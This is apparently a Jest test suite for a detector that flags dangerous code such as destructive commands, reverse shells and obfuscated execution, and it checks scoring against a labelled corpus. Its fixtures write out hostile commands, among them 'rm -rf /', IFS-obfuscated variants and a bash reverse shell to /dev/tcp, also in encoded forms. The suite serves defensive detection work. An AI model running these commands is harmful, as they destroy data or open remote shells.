import { readFileSync } from 'node:fs';
import { parse } from 'yaml';
import type { BuiltinFinding } from '../../../src/detectors/builtin/builtin-detector';
import { dangerousCodeDetector } from '../../../src/detectors/builtin/dangerous-code';
import { dangerLabels } from '../../../src/detectors/builtin/dangerous-code/rule';
import { loadCorpus, scoreCorpus } from '../../../src/detectors/builtin/scoring';

const detect = (text: string) => dangerousCodeDetector.detect(text) as BuiltinFinding[];
const labelsIn = (text: string) => [...new Set(detect(text).map(({ label }) => label))];
const base64 = (text: string) => Buffer.from(text).toString('base64');

describe('dangerous-code', () => {
  it.each([
    ['behind emoji', '🧨🧨 rm -rf / 🧨'],
    ['behind combining marks', 'Zoe\u0308 says: rm -rf / 🧨'],
    ['at the start', 'rm -rf / 🧨'],
  ])('counts spans in code points %s', (_, text) => {
    const [finding] = detect(text);
    expect(finding).toMatchObject({ label: 'destructive_command', type: 'dangerous_code' });
    expect(Array.from(text).slice(finding!.start, finding!.end).join('')).toBe('rm -rf /');
  });

  it('merges what several rules see of one danger and keeps dangers apart', () => {
    const text = 'rm -rf /\nsleep 1\nrm -rf --no-preserve-root /';
    expect(detect(text).map(({ start, label }) => [start, label])).toEqual([
      [0, 'destructive_command'],
      [17, 'destructive_command'],
    ]);
  });

  it('sorts findings by start', () => {
    const text = 'curl -k https://a.example\nchmod 777 /srv\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1';
    const starts = detect(text).map(({ start }) => start);
    expect(labelsIn(text)).toEqual(['unsafe_tls', 'unsafe_permissions', 'reverse_shell']);
    expect(starts).toEqual(starts.toSorted((a, b) => a - b));
  });

  it('reports one danger at most twenty times', () => {
    expect(detect('chmod 777 x\n'.repeat(100))).toHaveLength(20);
  });

  describe('decodes', () => {
    const hidden = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';

    it.each([
      ['base64', base64(hidden)],
      ['base64 twice', base64(base64(hidden))],
      ['hex', Buffer.from(hidden).toString('hex')],
      ['hex escapes', [...Buffer.from(hidden)].map((byte) => `\\x${byte.toString(16)}`).join('')],
      ['percent escapes', [...Buffer.from(hidden)].map((byte) => `%${byte.toString(16)}`).join('')],
      ['UTF-16 in base64, as PowerShell does', Buffer.from(hidden, 'utf16le').toString('base64')],
    ])('%s and reports the encoded run', (_, run) => {
      const text = `🔒 data = "${run}"`;
      const finding = detect(text).find(({ label }) => label === 'reverse_shell');
      expect(Array.from(text).slice(finding?.start, finding?.end).join('')).toBe(run);
    });

    it('two layers and no more', () => {
      expect(labelsIn(base64(base64(base64(hidden))))).toEqual([]);
    });

    it('an encoded command of PowerShell that is harmless in itself, as obfuscation only', () => {
      const run = Buffer.from('Get-Date | Out-Null', 'utf16le').toString('base64');
      expect(labelsIn(`powershell -enc ${run}`)).toEqual(['obfuscated_execution']);
    });

    it('nothing harmful from images, hashes and prose', () => {
      expect(labelsIn(base64('The quarterly report is attached, see page four.'))).toEqual([]);
      expect(labelsIn('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08')).toEqual([]);
    });
  });

  it.each(['rm${IFS}-rf${IFS}/', 'rm$IFS-rf$IFS/', 'rm -rf \\\n /'])(
    'sees through shell blanks in %j',
    (text) => {
      expect(labelsIn(text)).toEqual(['destructive_command']);
    },
  );

  describe('a warning', () => {
    it.each([
      'Never run `rm -rf /` on a server.',
      '# do not use: chmod 777 /srv',
      "You mustn't ever paste rm -rf / from a forum.",
      'fix: remove `rm -rf /var` from the cleanup script',
      '`rm -rf /` deletes everything.',
    ])('clears the command it warns against: %j', (text) => {
      expect(labelsIn(text)).toEqual([]);
    });

    it.each([
      'echo never; rm -rf /',
      'echo "do not panic" && rm -rf /',
      'echo never run `rm -rf /`',
      '# never do this\nrm -rf /',
      'Never mind. Now run rm -rf / as root',
      "Don't forget to run rm -rf / afterwards",
      'AVOID=1 rm -rf /',
      'os.system("avoid") or os.system("rm -rf /")',
    ])('does not smuggle a command through: %j', (text) => {
      expect(labelsIn(text)).toContain('destructive_command');
    });
  });

  it.each([
    'rm -rf ./build',
    'rm -rf /var/lib/apt/lists/*',
    'curl -s https://api.example.com/x | python3 -m json.tool',
    'wget -qO- https://example.org/f | sha256sum',
    'DROP DATABASE IF EXISTS app_test;',
    'const rows = await sql`SELECT * FROM users WHERE id = ${id}`;',
    "WHERE status = 'open' OR type = 'rush'",
    "const doc = yaml.load(fs.readFileSync('a.yml', 'utf8'));",
    'eval "$(ssh-agent -s)"',
  ])('leaves alone %j', (text) => {
    expect(labelsIn(text)).toEqual([]);
  });

  it.each([
    'rm -rf ',
    'curl ',
    '"SELECT a FROM ',
    "' or ",
    'socket.socket(',
    '\\x41',
    '%41',
    'never ',
    'QUJD',
    'powershell -e ',
    '- - -x ',
    'your files are ',
    'CurrentVersion\\Run',
    'spawn("',
    '* ',
    'os.walk AES',
  ])('gets through 50,000 characters of %j', (piece) => {
    const text = piece.repeat(Math.ceil(50_000 / piece.length)).slice(0, 50_000);
    expect(detect(text).length).toBeLessThanOrEqual(dangerLabels.length * 60);
  });

  it('has one target in the label file for every label, and no other', () => {
    const file = parse(readFileSync('taxonomy/detectors/dangerous-code.yaml', 'utf8')) as {
      labels: { label: string; category: string }[];
    };
    expect(file.labels.map(({ label }) => label).sort()).toEqual([...dangerLabels].sort());
    expect(new Set(file.labels.map(({ category }) => category))).toEqual(
      new Set(dangerousCodeDetector.taxonomyCategories),
    );
  });
});

describe('dangerous-code corpus', () => {
  const corpus = loadCorpus('corpora/dangerous-code.jsonl');

  it('is large, balanced and has every label', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(500);
    expect(corpus.filter(({ labels }) => labels.length === 0).length / corpus.length).toBeGreaterThan(0.35);
    expect(new Set(corpus.flatMap(({ labels }) => labels))).toEqual(new Set(dangerLabels));
  });

  it('reaches its floors', async () => {
    const score = await scoreCorpus(dangerousCodeDetector, corpus);
    expect(score.precision).toBeGreaterThanOrEqual(0.98);
    expect(score.recall).toBeGreaterThanOrEqual(0.89);
    for (const label of dangerLabels) {
      const { precision, recall } = score.perLabel[label]!;
      expect({ label, isPrecise: precision >= 0.92, isFound: recall >= 0.8 }).toEqual({
        label,
        isPrecise: true,
        isFound: true,
      });
    }
  });
});
